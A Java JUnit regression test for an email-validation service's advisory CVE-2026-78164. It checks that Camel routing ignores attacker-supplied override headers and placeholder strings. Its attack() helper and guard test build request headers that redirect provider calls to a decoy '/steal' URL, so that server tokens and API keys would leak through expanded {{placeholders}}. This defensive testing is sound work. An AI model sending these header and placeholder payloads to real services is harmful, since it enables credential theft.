package io.sluice.advisories;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.http.HttpHeader;
import com.github.tomakehurst.wiremock.stubbing.ServeEvent;
import io.sluice.support.SluiceRunner;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * CVE-2026-78164 and "no URI from message data": admin API requests whose request target, headers and body try to
 * re-point a provider call (CamelHttpUri / CamelRestHttpUri / CamelHttpPath / CamelHttpQuery, an absolute-form request
 * target that platform-http hands on as CamelHttpUri) or to have {{placeholders}} expanded into it. The configured
 * stub must see exactly the configured URLs, with every secret only where it belongs; the decoy must see nothing.
 * Message data ({{, &, #, /, ? in a Postmark stream id or an address) reaches the provider percent-encoded, as data.
 */
@Timeout(120)
class HttpOverrideHeadersTest {

    static final String SERVER_TOKEN = "postmark-token-under-test";
    static final String NB_KEY = "nb-key-under-test";
    static final String ELV_KEY = "elv-key-under-test";
    /** Only ever seen if Camel resolved {{env:...:default}} somewhere in a provider call. */
    static final String MARKER = "expanded-marker";
    static final String PLACEHOLDERS = "{{sluice.postmark.server-token}}{{sluice.neverbounce.api-key}}"
            + "{{sluice.emaillistverify.api-key}}{{sluice.admin.token}}{{env:SLUICE_NO_SUCH_SETTING:" + MARKER + "}}";

    /** A stream id and an address made of URI syntax and placeholders (every character is valid in a dot-atom). */
    static final String STREAM = "odd{{sluice.postmark.server-token}}&page=2#frag/../x?y";
    static final String ADDRESS = "q{{sluice.neverbounce.api-key}}&x=1#y/z?w@example.com";

    private WireMockServer providers;
    private WireMockServer decoy;
    private SluiceRunner sluice;

    @BeforeEach
    void stubs() {
        providers = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
        providers.start();
        decoy = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
        decoy.start();
        decoy.stubFor(any(anyUrl()).willReturn(okJson("{\"MessageStreams\":[],\"status\":\"success\"}")));
    }

    @AfterEach
    void stop() {
        if (sluice != null) {
            sluice.close();
        }
        providers.stop();
        decoy.stop();
    }

    private void start(String mode) {
        sluice = new SluiceRunner(SluiceRunner.tempDir("override-headers"))
                .set("sluice.postmark.api-url", configured())
                .set("sluice.postmark.server-token", SERVER_TOKEN)
                .set("sluice.neverbounce.api-url", configured())
                .set("sluice.neverbounce.api-key", NB_KEY)
                .set("sluice.emaillistverify.api-url", configured())
                .set("sluice.emaillistverify.api-key", ELV_KEY)
                .set("sluice.validation.mode", mode)
                .set("sluice.validation.bulk-poll-ms", "100")
                .set("sluice.validation.cron", "0 0 0 1 1 ? 2099")
                .set("sluice.guard.cron", "0 0 0 1 1 ? 2099")
                .set("sluice.suppressions.cron", "0 0 0 1 1 ? 2099")
                .start();
    }

    /** The providers' configured base URL: 127.0.0.1, where the redirect and the overrides name localhost or another port. */
    private String configured() {
        return "http://127.0.0.1:" + providers.port();
    }

    /** The request target and headers of an admin call that tries to send the provider call to the decoy. */
    private RawHttp.Response attack(String path, String body) {
        String steal = "http://127.0.0.1:" + decoy.port() + "/steal?k=" + PLACEHOLDERS;
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + SluiceRunner.TOKEN);
        headers.put("Content-Type", "text/plain");
        headers.put("CamelHttpUri", steal);
        headers.put("camelhttpuri", steal);
        headers.put("CamelRestHttpUri", steal);
        headers.put("CamelHttpPath", "/steal/" + PLACEHOLDERS);
        headers.put("CamelHttpQuery", "k=" + PLACEHOLDERS);
        headers.put("CamelHttpRawQuery", "k=" + PLACEHOLDERS);
        headers.put("CamelRestHttpQuery", "k=" + PLACEHOLDERS);
        headers.put("CamelHttpMethod", "DELETE");
        headers.put("X-Postmark-Server-Token", PLACEHOLDERS);
        // Absolute form: platform-http routes on the path and puts the whole target in CamelHttpUri, host included.
        String target = "http://127.0.0.1:" + decoy.port() + path + "?k=" + PLACEHOLDERS;
        return RawHttp.send(Integer.parseInt(sluice.baseUrl().substring(sluice.baseUrl().lastIndexOf(':') + 1)),
                "POST", target, headers, body);
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** Everything a stub saw of one request, for "no secret where it does not belong, nothing expanded". */
    static String seen(ServeEvent event) {
        StringBuilder all = new StringBuilder(event.getRequest().getUrl()).append('\n');
        for (HttpHeader header : event.getRequest().getHeaders().all()) {
            all.append(header.key()).append(": ").append(String.join(",", header.values())).append('\n');
        }
        return all.append(event.getRequest().getBodyAsString()).toString();
    }

    private void assertDecoyUntouchedAndNothingExpanded() {
        assertThat(decoy.getAllServeEvents()).as("the decoy named in the override headers and request target is never called")
                .extracting(HttpOverrideHeadersTest::seen).isEmpty();
        for (ServeEvent event : providers.getAllServeEvents()) {
            assertThat(seen(event)).as("no placeholder expanded into a provider call: " + event.getRequest().getUrl())
                    .doesNotContain(MARKER, SluiceRunner.TOKEN).doesNotContain("/steal").doesNotContain("k=");
            assertThat(event.getRequest().getMethod().getName()).as("the method the route set, not CamelHttpMethod")
                    .isIn("GET", "POST");
        }
    }

    @Test
    void postmark_calls_ignore_override_headers_and_take_a_stream_id_as_data() {
        start("single");
        providers.stubFor(get(urlEqualTo("/message-streams")).willReturn(okJson("{\"MessageStreams\":["
                + "{\"ID\":\"outbound\",\"ServerID\":1,\"Name\":\"Transactional\",\"MessageStreamType\":\"Transactional\"},"
                + "{\"ID\":\"" + STREAM.replace("\"", "\\\"") + "\",\"ServerID\":1,\"Name\":\"Odd\",\"MessageStreamType\":\"Broadcasts\"}],"
                + "\"TotalCount\":2}")));
        providers.stubFor(get(urlEqualTo("/message-streams/outbound/suppressions/dump")).willReturn(okJson("{\"Suppressions\":["
                + "{\"EmailAddress\":\"ada@example.com\",\"SuppressionReason\":\"HardBounce\",\"Origin\":\"Recipient\","
                + "\"CreatedAt\":\"2026-11-01T08:58:33-05:00\"}]}")));
        // The odd id as one percent-encoded segment: any other URL (expanded, split at ? or #, dot-segment removed) 404s.
        String oddPath = "/message-streams/odd%7B%7Bsluice%2Epostmark%2Eserver-token%7D%7D%26page%3D2%23frag%2F%2E%2E%2Fx%3Fy"
                + "/suppressions/dump";
        providers.stubFor(get(urlEqualTo(oddPath)).willReturn(okJson("{\"Suppressions\":["
                + "{\"EmailAddress\":\"bob@example.com\",\"SuppressionReason\":\"SpamComplaint\",\"Origin\":\"Recipient\","
                + "\"CreatedAt\":\"2026-11-01T08:58:33-05:00\"}]}")));

        RawHttp.Response answer = attack("/api/suppressions/sync", PLACEHOLDERS);

        assertDecoyUntouchedAndNothingExpanded();
        assertThat(answer.status()).as("the sync ran against the configured Postmark: " + answer.body()).isEqualTo(200);
        assertThat(answer.body()).contains("\"outbound\":1", "\"total\":2");
        assertThat(providers.getAllServeEvents()).as("exactly the configured URLs").extracting(e -> e.getRequest().getUrl())
                .containsExactlyInAnyOrder("/message-streams", "/message-streams/outbound/suppressions/dump", oddPath);
        for (ServeEvent event : providers.getAllServeEvents()) {
            assertThat(event.getRequest().getHeader("X-Postmark-Server-Token")).as("the configured token, not the request's")
                    .isEqualTo(SERVER_TOKEN);
            assertThat(event.getRequest().getUrl()).as("the token only in its header").doesNotContain(SERVER_TOKEN);
        }
        assertThat(sluice.jdbc().queryForObject("SELECT message_stream FROM email_validation_cache WHERE email = 'bob@example.com'",
                String.class)).as("the stream id stored as it came").isEqualTo(STREAM);
    }

    @Test
    void single_checks_ignore_override_headers_and_send_the_address_as_data() {
        start("single");
        providers.stubFor(post(urlEqualTo("/v4/single/check")).withRequestBody(containing("email=" + enc("ada@example.com")))
                .willReturn(okJson(nbResult("valid"))));
        // NeverBounce cannot say; Email List Verify is asked next, at exactly this URL (key and address encoded).
        providers.stubFor(post(urlEqualTo("/v4/single/check")).withRequestBody(containing("email=" + enc(ADDRESS)))
                .willReturn(okJson(nbResult("unknown"))));
        providers.stubFor(get(urlEqualTo("/api/verifyEmail?secret=" + enc(ELV_KEY) + "&email=" + enc(ADDRESS)))
                .willReturn(aResponse().withStatus(200).withHeader("Content-Type", "text/html; charset=UTF-8").withBody("ok")));
        sluice.campaign("Hello", "Hi", null, "email\nada@example.com\n" + ADDRESS + "\n", null);

        RawHttp.Response answer = attack("/api/validation/run", PLACEHOLDERS);

        assertDecoyUntouchedAndNothingExpanded();
        assertThat(answer.status()).as("the run answered: " + answer.body()).isEqualTo(200);
        assertThat(answer.body()).contains("\"cached\":2");
        assertThat(sluice.jdbc().queryForMap("SELECT text_code, provider FROM email_validation_cache WHERE email = ?",
                ADDRESS.toLowerCase())).containsEntry("TEXT_CODE", "ok").containsEntry("PROVIDER", "emaillistverify");
        List<ServeEvent> events = providers.getAllServeEvents();
        assertThat(events).extracting(e -> e.getRequest().getUrl()).as("exactly the configured URLs")
                .containsExactlyInAnyOrder("/v4/single/check", "/v4/single/check",
                        "/api/verifyEmail?secret=" + enc(ELV_KEY) + "&email=" + enc(ADDRESS));
        for (ServeEvent event : events) {
            String body = event.getRequest().getBodyAsString();
            if (event.getRequest().getUrl().startsWith("/v4/")) {
                assertThat(body).as("NeverBounce: its key and the address, form-encoded, nothing else")
                        .startsWith("key=" + enc(NB_KEY) + "&email=").doesNotContain(ELV_KEY, SERVER_TOKEN);
            } else {
                assertThat(seen(event)).as("Email List Verify: its key only").doesNotContain(NB_KEY, SERVER_TOKEN);
            }
        }
    }

    @Test
    void bulk_job_calls_ignore_override_headers() {
        start("bulk");
        providers.stubFor(post(urlEqualTo("/v4/jobs/create")).willReturn(okJson("{\"status\":\"success\",\"job_id\":4711,\"execution_time\":9}")));
        providers.stubFor(post(urlEqualTo("/v4/jobs/status")).willReturn(okJson("{\"status\":\"success\",\"id\":4711,"
                + "\"job_status\":\"complete\",\"total\":{\"records\":1,\"processed\":1},\"percent_complete\":100,\"execution_time\":9}")));
        providers.stubFor(post(urlEqualTo("/v4/jobs/download")).willReturn(aResponse().withStatus(200)
                .withHeader("Content-Type", "application/octet-stream").withBody("email,email_status,bad_syntax\n" + ADDRESS + ",valid,0\n")));
        sluice.campaign("Hello", "Hi", null, "email\n" + ADDRESS + "\n", null);

        RawHttp.Response answer = attack("/api/validation/run", PLACEHOLDERS);

        assertDecoyUntouchedAndNothingExpanded();
        assertThat(answer.status()).as("the run answered: " + answer.body()).isEqualTo(200);
        assertThat(answer.body()).contains("\"mode\":\"bulk\"", "\"cached\":1");
        assertThat(providers.getAllServeEvents()).extracting(e -> e.getRequest().getUrl()).as("exactly the configured URLs")
                .containsExactlyInAnyOrder("/v4/jobs/create", "/v4/jobs/status", "/v4/jobs/download");
        assertThat(providers.getAllServeEvents()).allSatisfy(e -> assertThat(e.getRequest().getBodyAsString())
                .contains("\"key\":\"" + NB_KEY + "\""));
    }

    @Test
    void the_guard_statistics_call_ignores_override_headers() {
        start("single");
        providers.stubFor(get(urlPathEqualTo("/stats/outbound")).willReturn(okJson("{\"Sent\":0,\"Bounced\":0,\"SpamComplaints\":0}")));
        String steal = "http://127.0.0.1:" + decoy.port() + "/steal?k=" + PLACEHOLDERS;
        Map<String, Object> headers = new LinkedHashMap<>();
        headers.put("CamelHttpUri", steal);
        headers.put("CamelRestHttpUri", steal);
        headers.put("CamelHttpPath", "/steal/" + PLACEHOLDERS);
        headers.put("CamelHttpRawQuery", "k=" + PLACEHOLDERS);

        sluice.context().createProducerTemplate().sendBodyAndHeaders("direct:guard-check", PLACEHOLDERS, headers);

        assertDecoyUntouchedAndNothingExpanded();
        assertThat(providers.getAllServeEvents()).singleElement().satisfies(event -> {
            assertThat(event.getRequest().getUrl()).matches("/stats/outbound\\?messagestream=[a-z-]+&fromdate=\\d{4}-\\d\\d-\\d\\d");
            assertThat(event.getRequest().getHeader("X-Postmark-Server-Token")).isEqualTo(SERVER_TOKEN);
        });
    }

    static String nbResult(String result) {
        return "{\"status\":\"success\",\"result\":\"" + result + "\",\"flags\":[\"has_dns\"],\"suggested_correction\":\"\","
                + "\"credits_info\":{\"paid_credits_used\":1,\"free_credits_used\":0,\"paid_credits_remaining\":9,"
                + "\"free_credits_remaining\":0},\"execution_time\":12}";
    }
}
